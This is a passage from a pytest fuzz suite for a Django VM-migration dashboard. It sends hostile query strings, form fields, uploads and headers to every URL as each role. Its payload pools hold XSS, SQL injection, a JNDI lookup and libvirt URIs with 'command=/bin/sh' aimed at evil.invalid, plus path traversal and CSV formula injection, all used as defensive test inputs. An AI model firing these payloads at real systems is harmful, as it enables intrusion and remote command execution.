"""A form fuzz: every URL of the project, as every role, with hostile query
strings and hostile, oversized and malformed form data, answers without a 500.

Every URL pattern is found by walking the resolver (``admin/`` and
``django-rq/`` are third-party and only checked for being closed to
non-superusers). URL kwargs are filled with existing objects' pks, a missing
pk and integers beyond SQLite's and PostgreSQL's range. The forms each view
uses are introspected (``base_fields``) for their field names; each field is
replaced, one at a time, in an otherwise valid submission, by values sampled
from hostile pools suited to its type, and whole submissions are malformed as
a whole (unknown fields, too many fields, oversized bodies, broken encodings,
files where none are expected and garbage where files are). Every role asks
every URL; the superuser, who holds every role and reaches every branch, gets
the whole sample of payloads, the other roles a part of it, and the roles a
view turns away one or two. The wizard is fuzzed a second time with its
pre-checks passing, so payloads also reach the review and the start.

Every request runs in a savepoint rolled back afterwards, so each one sees the
same fixture set (a host removed by one payload is there for the next one) and
a valid payload that would create or delete something leaves nothing behind.
libvirt is only ever opened for ``test:///default``: any other URI a payload
slips into a host is refused by a stand-in for ``libvirt.open``.

The run is deterministic (``random.Random(1234)``) and prints, and writes to
``var/fuzz-summary.txt``, one line such as
``fuzz requests=N by_status={200: a, 302: b, ...} errors_500=0``.
"""

from __future__ import annotations

import collections
import contextlib
import dataclasses
import datetime as dt
import logging
import random
import re
import time
import traceback
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import libvirt
import pytest
from cryptography.fernet import Fernet
from django import forms
from django.conf import settings
from django.contrib.auth.forms import AuthenticationForm
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.shortcuts import resolve_url
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.urls.resolvers import RegexPattern, RoutePattern
from django.utils import timezone

from hosts import gateway, inventory
from hosts.certificates import store as certstore
from hosts.certificates.forms import CertificateUploadForm, HostTLSForm
from hosts.forms import HostForm, LifecycleForm
from hosts.models import Host, StorageClass, VirtualMachine
from migrator import forms as migrator_forms
from migrator.api import throttling
from migrator.audit.models import AuditEvent
from migrator.forms import ActionForm, MigrationForm, SettleForm
from migrator.history import AuditFilterForm, HistoryFilterForm
from migrator.models import DirtyRateMeasurement, Migration, MigrationSample, MigrationState
from migrator.planning.dirtyrate import DirtyRateForm
from migrator.prechecks import PASS, Report
from migrator.wizard import StepChoice
from tests import pki
from tests.conftest import PASSWORD
from tests.test_migration_form import _disk
from tests.test_migration_model import make_migration as _make_migration

pytestmark = pytest.mark.django_db

SEED = 1234
# (role label, key of the `users` fixture; None: anonymous)
ROLES = [
    ("anonymous", None),
    ("outsider", "outsider"),
    ("operator", "operator"),
    ("auditor", "auditor"),
    ("security", "security"),
    ("superuser", "admin"),
]
SKIPPED_PREFIXES = ("admin/", "django-rq/")
RQ_PREFIX = "django-rq/"
# How many payloads a (URL, role, method) gets. FULL: the first existing object
# (or a URL without kwargs); SOME: the other existing objects; FEW: missing pks
# and huge ints; REFUSED: a role the view turned away on its first request.
FIELD_BUDGET = 36  # per-field payloads of one FULL (URL, role, method), shared between the fields
MIN_PER_FIELD, MAX_PER_FIELD = 2, 10
SOME = 6
FEW = 1
REFUSED = {"FULL": 2, "SOME": 1, "FEW": 1}
BAD_PKS = [("missing", 999999), ("int64+1", 2**63), ("huge", 10**30)]

KiB = 1024
OVERSIZED = "O" * (300 * KiB)  # beyond DATA_UPLOAD_MAX_MEMORY_SIZE (256 KB): a 400
OVER_BODY_LIMIT = b"L" * (1024 * KiB + 1)  # beyond REQUEST_MAX_BODY_BYTES (1 MB): a 413

# ----------------------------------------------------------------- the pools

TEXT = [
    "",
    " ",
    "\t\r\n ",
    "\x00",
    "a\x00b",
    "\x01\x1f\x7f",
    "\u202eevil\u202c \u200f\u200e",
    "\ufeffbom",
    "😀" * 40,
    "𝔲𝔫𝔦𝔠𝔬𝔡𝔢 ünïcödé 中文 العربية",
    "\u0301\u0301\u0301",
    "%ED%A0%80 (an escaped surrogate)",
    "\\ud800\\udfff",
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "1; DROP TABLE hosts_host; --",
    "%' UNION SELECT password FROM auth_user --",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${jndi:ldap://evil.invalid/a}",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd\x00.pem",
    "file:///etc/passwd",
    "qemu+ssh://evil.invalid/system?command=/bin/sh",
    "qemu:///system?command=touch%20/tmp/pwned",
    "qemu+ext:///system?command=/bin/sh",
    "qemu+unix:///system?socket=/etc/passwd",
    "qemu+tls://10.0.0.1/system?pkipath=/etc",
    "test:///etc/passwd",
    "test:///default?command=id",
    "qemu+ssh://root@host/system?no_tty=1&keyfile=/root/.ssh/id_rsa",
    "//evil.invalid/",
    "https://evil.invalid/",
    "A" * 10_000,
    "W" * 60_000,  # beyond SQLite's LIKE pattern limit (50 000 bytes)
    "host." + "W" * 60_000 + "*",  # the audit log's action prefix
]
# No CPU range such as "0-999999999" for pin_cpus: parse_cpuset expands ranges
# in memory before it checks them, and one would exhaust the test's memory.
NUMBERS = [
    "0",
    "-0",
    "-1",
    "1.5",
    "1e3",
    "1e309",
    "-1e309",
    "NaN",
    "nan",
    "inf",
    "-Infinity",
    "0x1F",
    "1_000",
    "１２３",
    "٣",
    " 7 ",
    "+5",
    "9" * 30,
    "-" + "9" * 30,
    str(2**31),
    str(2**63),
    str(2**64),
    str(-(2**63) - 1),
    "1,5",
    "true",
    "[]",
]
DATES = [
    "0000-00-00",
    "0001-01-01",
    "0001-01-01T00:00",
    "0001-01-01 00:00:00",
    "9999-12-31",
    "9999-12-31T23:59",
    "9999-12-31 23:59:59.999999",
    "10000-01-01",
    "2024-02-30",
    "2024-13-01",
    "-2024-01-01",
    "2024-01-01T25:61",
    "1970-01-01T00:00:00+99:00",
    "1e9",
    "now",
]
BAD_CHOICES = ["nope", "QUEUED", "queued ", "failed\x00", "<b>x</b>", "__all__", "None", "0", "-1"]
BOOLEANS = ["off", "false", "False", "0", "no", "on", "TRUE", "\x00", "[]", "2"]

PEM_GARBAGE = b"-----BEGIN CERTIFICATE-----\nTUlJQmFkQ2VydGlmaWNhdGVHYXJiYWdl\x00\xff\n-----END CERTIFICATE-----\n"
PEM_TWO = PEM_GARBAGE + b"-----BEGIN PRIVATE KEY-----\nTUlJQmFk\n-----END PRIVATE KEY-----\n"


@dataclasses.dataclass(frozen=True)
class Upload:
    """A file to upload; turned into a fresh SimpleUploadedFile for each request."""

    name: str
    content: bytes
    content_type: str = "application/x-pem-file"

    def make(self) -> SimpleUploadedFile:
        return SimpleUploadedFile(self.name, self.content, self.content_type)

    def __repr__(self) -> str:
        return f"<file {self.name!r} {len(self.content)} B>"


def upload_pool(rng: random.Random) -> list[Upload]:
    return [
        Upload("random.bin", rng.randbytes(2048), "application/octet-stream"),
        Upload("big.pem", rng.randbytes(300 * KiB)),
        Upload("garbage.pem", PEM_GARBAGE),
        Upload("two-blocks.pem", PEM_TWO),
        Upload("empty.pem", b""),
        Upload("../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n", "text/plain"),
        Upload("évil\u202e.pem", "-----BEGIN CERTIFICATE-----\nü\n".encode()),
        Upload("utf16.pem", "-----BEGIN CERTIFICATE-----".encode("utf-16")),
    ]


# ----------------------------------------------------------- which forms where

# URL name -> what the view reads: "get" forms read from the query string,
# "post" forms from the body, "post_query" forms from the query string of a POST
# (the exports); "get_extra"/"post_extra" are keys the view reads itself.
VIEW_FORMS: dict[str, dict[str, list]] = {
    "login": {"post": [AuthenticationForm], "get_extra": ["next"], "post_extra": ["next"]},
    "logout": {"get_extra": ["next"], "post_extra": ["next"]},
    "hosts:add": {"post": [HostForm]},
    "hosts:edit": {"post": [HostForm]},
    "hosts:vm_action": {"post": [LifecycleForm]},
    "hosts:certificate_upload": {"get": [CertificateUploadForm], "post": [CertificateUploadForm]},
    "hosts:certificate_assign": {"post": [HostTLSForm]},
    "migrator:list": {"get": [HistoryFilterForm], "get_extra": ["page"]},
    "migrator:export_csv": {"get": [HistoryFilterForm], "post_query": [HistoryFilterForm]},
    "migrator:export_json": {"get": [HistoryFilterForm], "post_query": [HistoryFilterForm]},
    "migrator:audit": {"get": [AuditFilterForm], "get_extra": ["page"]},
    "migrator:new": {
        "get": [StepChoice],
        "post": [StepChoice, MigrationForm],
        "post_extra": ["edit", "start", "review", "reviewed"],
    },
    "migrator:action": {"post": [ActionForm]},
    "migrator:settle": {"post": [SettleForm]},
    "vm_dirty_rate": {"post": [DirtyRateForm]},
}
UNKNOWN_FIELDS = {
    "__proto__[admin]": "1",
    "csrfmiddlewaretoken": "<forged>",
    "is_superuser": "on",
    "user": "root",
    "pk": "-1",
    "x" * 300: "long name",
    "\x00": "nul name",
    "\u202efield": "rtl name",
    "field[]": ["a", "b"],
    "😀": "emoji name",
}
GENERIC_QUERIES = [
    "",
    "page=-1&page=99999999999999999999",
    "%00=%00",
    "%ff%fe=%ED%A0%80&q=%C0%AF",
    "next=//evil.invalid/&next=javascript:alert(1)",
    "sort=-password&format=json&__proto__[x]=1",
    "a=" + "A" * 10_000,
    "&".join(f"k{i}=v" for i in range(600)),  # beyond DATA_UPLOAD_MAX_NUMBER_FIELDS: a 400 if read
    "q=" + "Q" * (300 * KiB),
    "=&&==&%",
]


def fields_of(form_classes: list) -> dict[str, forms.Field]:
    found: dict[str, forms.Field] = {}
    for form_class in form_classes:
        found.update(form_class.base_fields)
    return found


def must_for(field: forms.Field | None) -> list:
    """The values every field of its type gets, whatever the sample: those that found bugs."""
    if isinstance(field, forms.FileField | forms.BooleanField):
        return []
    if isinstance(field, forms.DateTimeField | forms.DateField):
        return ["9999-12-31", "0001-01-01"]
    if isinstance(field, forms.IntegerField | forms.FloatField | forms.DecimalField | forms.ModelChoiceField):
        return [str(2**63), "1e309"]
    return ["W" * 60_000, "\x00"]


def related_values(field: forms.Field | None) -> list:
    """Every pk of the model a choice field picks from, also those its queryset leaves out
    (a server certificate offered as a CA, a retired one): valid-looking, wrong values."""
    if not isinstance(field, forms.ModelChoiceField):
        return []
    return [str(pk) for pk in field.queryset.model._default_manager.order_by("pk").values_list("pk", flat=True)[:6]]


# Lifecycle actions that would stop the test driver's guest for every request after them.
UNSAFE_CHOICES = {"shutdown", "destroy"}


def valid_choices(field: forms.ChoiceField) -> list[str]:
    """The field's own choices (each one takes the view down another branch), but unsafe ones."""
    values = [str(value) for value, _label in field.choices if not isinstance(_label, list | tuple)]
    return [v for v in values if v not in UNSAFE_CHOICES]


def pool_for(field: forms.Field | None) -> list:
    if isinstance(field, forms.FileField):
        return []  # files get their own payloads
    if isinstance(field, forms.DateTimeField | forms.DateField):
        return DATES + TEXT[:8]
    if isinstance(field, forms.BooleanField):
        return BOOLEANS + TEXT[:6]
    if isinstance(field, forms.IntegerField | forms.FloatField | forms.DecimalField | forms.ModelChoiceField):
        return NUMBERS + TEXT
    if isinstance(field, forms.ChoiceField):
        return valid_choices(field) + BAD_CHOICES + TEXT
    return TEXT + NUMBERS[:6]


# ----------------------------------------------------------------- the fixtures


def disk(target: str, source: str, **extra) -> dict:
    return _disk(target, source, **extra)


def nic(type_: str, source: str, mac: str) -> dict:
    return {"type": type_, "source": source, "mac": mac, "model": "virtio", "target": "vnet0"}


def make_migration(**fields) -> Migration:
    """A record between the fuzz's two test-driver hosts."""
    where = {"source_name": "fuzz-a", "source_uri": "test:///default", "destination_name": "fuzz-b"}
    return _make_migration(**{**where, "destination_uri": "test:///default", **fields})


@pytest.fixture
def world(db, users, settings, tmp_path, test_driver_only):
    settings.SECRETS_KEYS = [Fernet.generate_key().decode()]
    settings.TLS_PKI_DIR = str(tmp_path / "pki")
    now = timezone.now()

    host_a = Host.objects.create(
        name="fuzz-a",
        uri="test:///default",
        shared_prefixes="/shared/\n",
        migration_address="10.0.0.1",
        info={"logical_cpus": 2},
    )
    host_b = Host.objects.create(name="fuzz-b", uri="test:///default", migration_address="10.0.0.2")
    inventory.refresh_host(host_a)
    inventory.refresh_host(host_b)
    host_tls = Host.objects.create(name="fuzz-tls", uri="qemu+tls://10.0.0.3/system", enabled=False)

    vm_test = host_a.vms.get(name="test")  # the test driver's running guest
    vm_db = VirtualMachine.objects.create(
        host=host_a,
        uuid="6c61622d-0000-0000-0000-0000000000db",
        name="db",
        state="running",
        vcpus=2,
        memory_kib=524288,
        storage_class=StorageClass.NON_SHARED,
        disks=[
            disk("vda", "/var/lib/libvirt/images/db-vda.qcow2"),
            disk("vdb", "/var/lib/libvirt/images/db-vdb.img", format="raw", readonly=True),
            disk("vdc", "/shared/db-vdc.qcow2"),
            disk("vde", "/dev/sdb", type="block", format="raw"),
            {**disk("hdc", ""), "device": "cdrom"},
        ],
        interfaces=[nic("network", "default", "52:54:00:00:00:01"), nic("bridge", "br0", "52:54:00:00:00:02")],
        details={"logical_cpus": 2},
    )
    vm_odd = VirtualMachine.objects.create(
        host=host_b,
        uuid="6c61622d-0000-0000-0000-00000000000d",
        name="ünïcode\u202e <b>vm</b>",
        state="shutoff",
        vcpus=1,
        memory_kib=131072,
        storage_class=StorageClass.SHARED,
        disks=[disk("vda", "/shared/odd.qcow2")],
        interfaces=[],
    )
    DirtyRateMeasurement.objects.create(
        vm_uuid=vm_test.uuid,
        vm_name=vm_test.name,
        host=host_a,
        host_name=host_a.name,
        series="00000000-0000-0000-0000-00000000a001",
        window_s=1,
        dirty_rate_mib_s=12.5,
    )

    params = MigrationForm.default_parameters(vm_db, host_b).as_record()
    postcopy = {**params, "allow_postcopy": True}
    old = now - dt.timedelta(hours=2)
    base = {"vm": vm_db, "vm_name": vm_db.name, "source": host_a, "destination": host_b, "parameters": params}
    migrations = [
        make_migration(**base, vm_uuid=vm_db.uuid, state=MigrationState.QUEUED),
        make_migration(
            **{**base, "parameters": postcopy},
            vm_uuid="22222222-0000-0000-0000-000000000002",
            state=MigrationState.RUNNING,
            started_at=old,
            heartbeat_at=old,
        ),
        make_migration(
            **base,
            vm_uuid="22222222-0000-0000-0000-000000000003",
            state=MigrationState.RUNNING,
            started_at=now,
            heartbeat_at=now,
            postcopy_started_at=now,
        ),
        make_migration(
            **{**base, "parameters": postcopy},
            vm_uuid="22222222-0000-0000-0000-000000000004",
            state=MigrationState.INTERRUPTED,
            started_at=old,
            postcopy_started_at=old,
        ),
        make_migration(**base, vm_uuid="22222222-0000-0000-0000-000000000005", state=MigrationState.ATTENTION),
        make_migration(
            **base,
            vm_uuid=vm_test.uuid,
            state=MigrationState.SUCCEEDED,
            started_at=old,
            finished_at=now,
            total_time_ms=4200,
            downtime_ms=35,
            data_processed_bytes=2**30,
            final_stats={"time_elapsed": 4200},
            prediction={"converges": True},
        ),
        make_migration(
            vm_uuid=vm_test.uuid,
            vm_name="<script>alert(1)</script>",
            state=MigrationState.FAILED,
            finished_at=now,
            error_message="=cmd|' /C calc'!A0 ünïcode",
            error_code=38,
            parameters={},  # an older record: no parameter keys at all
        ),
        make_migration(vm_uuid=vm_test.uuid, state=MigrationState.CANCELLED, cancelled_by_username="olivia"),
    ]
    for migration in migrations[1:2] + migrations[5:6]:
        MigrationSample.from_stats(migration, {"time_elapsed": 1000, "data_processed": 1 << 20, "iteration": 2})
        migration.log(migration.state, "fuzz fixture event \u202e")

    admin = users["admin"]
    AuditEvent.record("host.added", actor=admin, obj=host_a, details={"uri": host_a.uri}, client_address="127.0.0.1")
    AuditEvent.record("host.added", actor=admin, obj=host_b, details={"uri": host_b.uri}, client_address="::1")
    AuditEvent.record("migration.started", actor=users["operator"], obj=migrations[0], details={"vm": vm_db.name})
    AuditEvent.record("vm.reboot", actor=users["operator"], obj=vm_odd, details={"note": "ünïcode\u202e <b>"})

    ca_issued = pki.make_ca("Fuzz CA")
    ca = certstore.store_upload("ca", ca_issued.pem, name="Fuzz CA")
    client_issued = pki.make_client(ca_issued, "fuzz-dashboard")
    client = certstore.store_upload(
        "client", client_issued.pem, client_issued.key_pem(), ca=ca, assign_hosts=[host_tls], name="fuzz client"
    )
    server = certstore.store_upload(
        "server", pki.make_server(ca_issued, "10.0.0.1", "fuzz-a", cn="fuzz-a").pem, ca=ca, host=host_a
    )
    return {
        "users": users,
        "hosts": [host_a, host_b, host_tls],
        "vms": [vm_test, vm_db, vm_odd],
        "migrations": migrations,
        "certificates": [ca, client, server],
        "vm": vm_test,
        "source": host_a,
        "destination": host_b,
        "ca": ca,
        "client": client,
        "fresh_ca_pem": pki.make_ca("Fuzz upload CA").pem,
    }


@pytest.fixture
def test_driver_only(monkeypatch) -> list[str]:
    """libvirt opens test:///default and nothing else: a payload that slips
    another URI into a host sees a host that does not answer."""
    real_open = libvirt.open
    refused: list[str] = []

    def guarded_open(uri=None):
        if uri == "test:///default":
            return real_open(uri)
        refused.append(uri)
        raise libvirt.libvirtError(f"fuzz: refused to open {uri!r} (only test:///default)")

    monkeypatch.setattr(libvirt, "open", guarded_open)
    return refused


@pytest.fixture
def rq_cleanup():
    """Jobs the views enqueue (dirty-rate measurements, post-copy resumes) are removed afterwards."""
    import django_rq

    from migrator.jobs import QUEUE

    queues = [django_rq.get_queue(name) for name in {QUEUE, "default"}]
    before = {q.name: set(q.job_ids) for q in queues}
    yield
    for queue in queues:
        for job_id in set(queue.job_ids) - before[queue.name]:
            job = queue.fetch_job(job_id)
            queue.remove(job_id)
            if job is not None:
                job.delete()


# ------------------------------------------------------------------ the routes


@dataclasses.dataclass
class Route:
    route: str
    name: str | None
    pattern: URLPattern


CONVERTER = re.compile(r"<(?:(?P<converter>[^>:]+):)?(?P<kwarg>\w+)>")


# A REST framework router's route, `^hosts/(?P<pk>[^/.]+)/$`: its kwargs as path converters.
ROUTER_KWARG = re.compile(r"\(\?P<(\w+)>\[\^/\.\]\+\)")


def router_route(regex: str) -> str | None:
    """`hosts/<pk>/` for a router's regex, or None for another regex."""
    route = ROUTER_KWARG.sub(r"<\1>", regex).removeprefix("^").removesuffix("$")
    return None if re.search(r"[\^$()\[\]?*+\\]", route) else route


def walk(patterns, prefix: str = "", namespace: str | None = None):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            ns = ":".join(part for part in (namespace, pattern.namespace) if part) or None
            yield from walk(pattern.url_patterns, prefix + str(pattern.pattern), ns)
        elif isinstance(pattern, URLPattern):
            name = f"{namespace}:{pattern.name}" if namespace and pattern.name else pattern.name
            route = str(pattern.pattern)
            if isinstance(pattern.pattern, RegexPattern) and router_route(route) is not None:
                route = router_route(route)
            yield Route(prefix + route, name, pattern)


def reachable(route: Route) -> bool:
    """A route the fuzz can fill in: a path() route, or a router's."""
    return isinstance(route.pattern.pattern, RoutePattern) or "(?P<" not in route.route and "^" not in route.route


def regex_sample(route: str) -> str:
    """A concrete path for a regex route such as ``stats.json/(?P<token>[\\w]+)?/?$``."""
    path = re.sub(r"\(\?P<\w+>[^)]*\)\??", "fuzztoken", route)
    return path.replace("^", "").replace("$", "").replace("/?", "/")


def model_for(name: str | None, kwarg: str):
    name = name or ""
    if kwarg == "host_pk":
        return "hosts"
    if "certificate" in name:
        return "certificates"
    if "vm" in name.split(":")[-1]:
        return "vms"
    if name.startswith(("migrator:", "api:migrations")):
        return "migrations"
    if name.startswith(("hosts:", "api:host")):
        return "hosts"
    return None


@dataclasses.dataclass
class Variant:
    """One concrete URL of a route: its path, a base query, and its tier."""

    route: Route
    path: str
    label: str
    tier: str  # FULL, SOME or FEW
    query: dict = dataclasses.field(default_factory=dict)
    obj: Any = None
    # The wizard's pre-checks pass (two test:///default hosts never do: "distinct hosts"), so
    # payloads reach the review (prediction, signed review) and the start (queue_migration).
    # Only POSTs: a GET shows the parameters step, pre-checks or not.
    prechecks_pass: bool = False


def variants_for(route: Route, world: dict) -> list[Variant]:
    params = list(CONVERTER.finditer(route.route))
    if not params:
        variants = [Variant(route, "/" + route.route, "-", "FULL")]
        if route.name == "migrator:new":
            vm, vm_db, dest, src = world["vm"], world["vms"][1], world["destination"], world["source"]
            variants += [
                Variant(route, "/" + route.route, f"?vm={vm.pk}", "SOME", {"vm": vm.pk}),
                Variant(route, "/" + route.route, "?vm,dest", "FULL", {"vm": vm.pk, "destination": dest.pk}),
                Variant(
                    route,
                    "/" + route.route,
                    "?vm,dest (pre-checks pass)",
                    "FULL",
                    {"vm": vm.pk, "destination": dest.pk},
                    prechecks_pass=True,
                ),
                Variant(
                    route, "/" + route.route, "?vm=db(active),dest", "FEW", {"vm": vm_db.pk, "destination": dest.pk}
                ),
                Variant(route, "/" + route.route, "?dest=source", "FEW", {"vm": vm.pk, "destination": src.pk}),
                Variant(route, "/" + route.route, "?vm=missing", "FEW", {"vm": 999999}),
            ]
        return variants
    assert len(params) == 1, f"{route.route}: one kwarg per route expected; extend the fuzz"
    match = params[0]
    kind = model_for(route.name, match["kwarg"])
    objects = world[kind] if kind else [o for k in ("hosts", "vms", "migrations", "certificates") for o in world[k]]
    values = [(f"{kind or 'any'}#{i}", obj.pk, obj) for i, obj in enumerate(objects)] + [
        (label, value, None) for label, value in BAD_PKS
    ]
    variants = []
    for index, (label, value, obj) in enumerate(values):
        tier = "FULL" if index == 0 else "SOME" if obj is not None else "FEW"
        if kind == "migrations" and obj is not None and index < 2:
            tier = "FULL"  # queued and running (with a stale lease: settle and actions apply) differ most
        path = "/" + route.route[: match.start()] + str(value) + route.route[match.end() :]
        variants.append(Variant(route, path, label, tier, obj=obj))
    return variants


# --------------------------------------------------------------- the payloads


@dataclasses.dataclass
class Payload:
    method: str
    label: str
    query: dict | str = ""
    data: dict | None = None
    raw: bytes | None = None
    content_type: str | None = None
    urlencoded: bool = False
    headers: dict = dataclasses.field(default_factory=dict)
    oversized: bool = False

    def summary(self) -> str:
        def short(value):
            text = repr(value)
            return text if len(text) <= 60 else f"{text[:50]}…({len(text)} chars)"

        parts = [self.label]
        if self.query:
            parts.append(f"query={short(self.query)}")
        if self.data:
            parts.append("data={" + ", ".join(f"{short(k)}: {short(v)}" for k, v in list(self.data.items())[:6]) + "}")
        if self.raw is not None:
            parts.append(f"raw={short(self.raw)} ct={self.content_type}")
        return " ".join(parts)


def baseline(variant: Variant, world: dict) -> dict:
    """A valid submission for the view (so one hostile field at a time gets past the others)."""
    name = variant.route.name
    if name == "login":
        return {"username": "olivia", "password": PASSWORD}
    if name in ("hosts:add", "hosts:edit"):
        return {
            "name": "fuzz-new" if name == "hosts:add" else "fuzz-edited",
            "uri": "qemu+tcp://10.255.255.1/system",
            "peer_uri": "",
            "migration_address": "10.255.255.1",
            "shared_prefixes": "/shared/",
            "enabled": "on",
        }
    if name == "hosts:vm_action":
        return {"action": "reboot"}
    if name == "hosts:certificate_upload":
        return {"kind": "ca", "name": "fuzz upload", "cert": Upload("ca.pem", world["fresh_ca_pem"])}
    if name == "hosts:certificate_assign":
        return {"ca": str(world["ca"].pk), "client": str(world["client"].pk)}
    if name == "migrator:new" and variant.query.get("destination"):
        vm = VirtualMachine.objects.get(pk=variant.query["vm"])
        destination = Host.objects.get(pk=variant.query["destination"])
        data = MigrationForm.defaults(vm, destination)
        return {**{k: v if isinstance(v, list) else str(v) for k, v in data.items()}, "review": "1"}
    if name == "migrator:new":
        return {"vm": str(world["vm"].pk)}
    if name == "migrator:action":
        return {"kind": "bandwidth", "value": "100"}
    if name == "migrator:settle":
        return {"state": "failed", "vm_location": "fuzz-a", "reason": "settled by the fuzz"}
    if name == "vm_dirty_rate":
        return {"window_s": "1", "duration_s": "2", "curve": "on"}
    return {}


def per_field_budget(n_fields: int, pool_size: int) -> int:
    return max(MIN_PER_FIELD, min(pool_size, MAX_PER_FIELD, FIELD_BUDGET // max(n_fields, 1)))


def field_payloads(
    rng: random.Random, method: str, fields: dict, extra: list[str], base: dict, to_query: bool
) -> list[Payload]:
    """Each field in turn replaced by hostile values (and repeated, where one value is expected)."""
    payloads = []
    names = list(fields) + [e for e in extra if e not in fields]
    for name in names:
        field = fields.get(name)
        pool = pool_for(field)
        if not pool:
            continue
        must = must_for(field) + related_values(field)
        rest = [v for v in pool if v not in must]
        for value in must + rng.sample(rest, max(0, per_field_budget(len(names), len(pool)) - len(must))):
            changed = {**base, name: value}
            label = f"field {name}={value!r:.40}"
            payloads.append(_field_payload(rng, method, label, changed, to_query))
        valid = base.get(name, "1")
        hostile = rng.choice(pool)
        repeated = {**base, name: [hostile, valid] if rng.random() < 0.5 else [valid, hostile, hostile]}
        payloads.append(_field_payload(rng, method, f"field {name} repeated", repeated, to_query))
    return payloads


def _field_payload(rng: random.Random, method: str, label: str, data: dict, to_query: bool) -> Payload:
    if method == "GET" or to_query:
        return Payload(method, label, query=data)
    return Payload(method, label, data=data, urlencoded=rng.random() < 0.3)


def whole_payloads(rng: random.Random, fields: dict, base: dict, uploads: list[Upload]) -> list[Payload]:
    """Malformed submissions as a whole."""
    names = [n for n, f in fields.items() if not isinstance(f, forms.FileField)] or ["name"]
    file_fields = [n for n, f in fields.items() if isinstance(f, forms.FileField)]
    payloads = [
        Payload("POST", "empty body", data={}),
        Payload("POST", "all blank", data=dict.fromkeys(names, "")),
        Payload("POST", "all whitespace", data=dict.fromkeys(names, " \t\n ")),
        Payload("POST", "all hostile", data={n: rng.choice(pool_for(fields.get(n)) or TEXT) for n in names}),
        Payload("POST", "all 10000 chars", data=dict.fromkeys(names, "X" * 10_000), urlencoded=True),
        Payload("POST", "all NUL", data=dict.fromkeys(names, "\x00")),
        Payload("POST", "unknown fields", data={**base, **UNKNOWN_FIELDS}),
        Payload("POST", "300 KB field", data={**base, rng.choice(names): OVERSIZED}, oversized=True),
        Payload(
            "POST",
            "300 KB field (urlencoded)",
            data={**base, rng.choice(names): OVERSIZED},
            urlencoded=True,
            oversized=True,
        ),
        Payload("POST", "600 fields", data={f"f{i}": "v" for i in range(600)}, oversized=True),
        Payload("POST", "body over 1 MB", raw=OVER_BODY_LIMIT, content_type="application/octet-stream"),
        Payload(
            "POST",
            "escaped surrogates and invalid UTF-8",
            raw=urlencode(_scalars(base)).encode()
            + b"&"
            + b"&".join(n.encode() + b"=%ED%A0%80%FF%C0%AF%00" for n in names),
            content_type="application/x-www-form-urlencoded",
        ),
        Payload(
            "POST",
            "utf-16 charset",
            raw="&".join(f"{n}=\u202e😀" for n in names).encode("utf-16"),
            content_type="application/x-www-form-urlencoded; charset=utf-16",
        ),
        Payload(
            "POST",
            "unknown charset",
            raw=urlencode(_scalars(base)).encode(),
            content_type="application/x-www-form-urlencoded; charset=x-fuzz",
        ),
        Payload(
            "POST",
            "malformed multipart",
            raw=b'--xyz\r\nContent-Disposition: form-data; name="a\x00\r\n\r\nno end',
            content_type="multipart/form-data; boundary=xyz",
        ),
        Payload("POST", "multipart without boundary", raw=b"a=b", content_type="multipart/form-data"),
        Payload(
            "POST",
            "JSON body",
            raw=b'{"' + (names[0].encode()) + b'": "\\ud800", "__proto__": {"x": 1}}',
            content_type="application/json",
        ),
        Payload("POST", "JSON accepted", data=dict(base), headers={"Accept": "application/json"}),
        Payload(
            "POST",
            "hostile headers",
            data=dict(base),
            headers={
                "X-Forwarded-For": "'; DROP TABLE x; --, 999.999.999.999",
                "Referer": "javascript:alert(1)",
                "User-Agent": "\u202e" + "U" * 5000,
                "Host": "testserver",
            },
        ),
        Payload("POST", "a host not allowed", data=dict(base), headers={"Host": "evil.invalid:80@x"}),
        Payload("POST", "a file where none is expected", data={**base, names[0]: uploads[0], "upload": uploads[1]}),
        Payload("POST", "120 files", data={**base, **{f"file{i}": uploads[2] for i in range(120)}}, oversized=True),
    ]
    for name in file_fields:
        for upload in uploads:
            payloads.append(Payload("POST", f"file {name}={upload!r}", data={**base, name: upload}))
        payloads.append(Payload("POST", f"file {name} as text", data={**base, name: PEM_GARBAGE.decode("latin-1")}))
        payloads.append(Payload("POST", f"file {name} missing", data={k: v for k, v in base.items() if k != name}))
        payloads.append(Payload("POST", f"file {name} twice", data={**base, name: [uploads[2], uploads[3]]}))
        payloads.append(
            Payload("POST", f"file {name} over 1 MB", data={**base, name: Upload("huge.pem", b"H" * (1100 * KiB))})
        )
    return payloads


def _scalars(data: dict) -> dict:
    return {k: v for k, v in data.items() if isinstance(v, str)}


def payloads_for(
    rng: random.Random, variant: Variant, method: str, world: dict, uploads: list[Upload]
) -> list[Payload]:
    spec = VIEW_FORMS.get(variant.route.name or "", {})
    if method == "GET":
        fields = fields_of(spec.get("get", []))
        found = [Payload("GET", "plain", query=dict(variant.query))]
        found += field_payloads(rng, "GET", fields, spec.get("get_extra", []), dict(variant.query), True)
        found += [Payload("GET", f"query {q[:30]!r}", query=q) for q in GENERIC_QUERIES if q]
        return found
    base = baseline(variant, world)
    if spec.get("post_query"):
        fields = fields_of(spec["post_query"])
        found = field_payloads(rng, "POST", fields, [], {}, True)
    else:
        post_forms = spec.get("post", [])
        if variant.route.name == "migrator:new" and not variant.query.get("destination"):
            post_forms = [StepChoice]  # before the destination is chosen, only the position is read
        fields = fields_of(post_forms)
        found = field_payloads(rng, "POST", fields, spec.get("post_extra", []), base, False)
    found.insert(0, Payload("POST", "valid baseline", data=base))
    found += whole_payloads(rng, fields, base, uploads)
    if variant.route.name == "migrator:new" and variant.query.get("destination"):
        found += [
            Payload(
                "POST", "start with a forged review", data={**base, "start": "1", "reviewed": "forged:" + "A" * 500}
            ),
            Payload("POST", "start without review", data={**base, "start": "1"}),
            Payload("POST", "edit", data={**base, "edit": "1"}),
            Payload("POST", "POST names another vm", data={**base, "vm": "999999"}),
        ]
    return found


# ------------------------------------------------------------------- running


@dataclasses.dataclass
class Tally:
    by_status: collections.Counter = dataclasses.field(default_factory=collections.Counter)
    errors: list[dict] = dataclasses.field(default_factory=list)
    oversize_accepted: list[str] = dataclasses.field(default_factory=list)
    csrf_not_403: list[str] = dataclasses.field(default_factory=list)
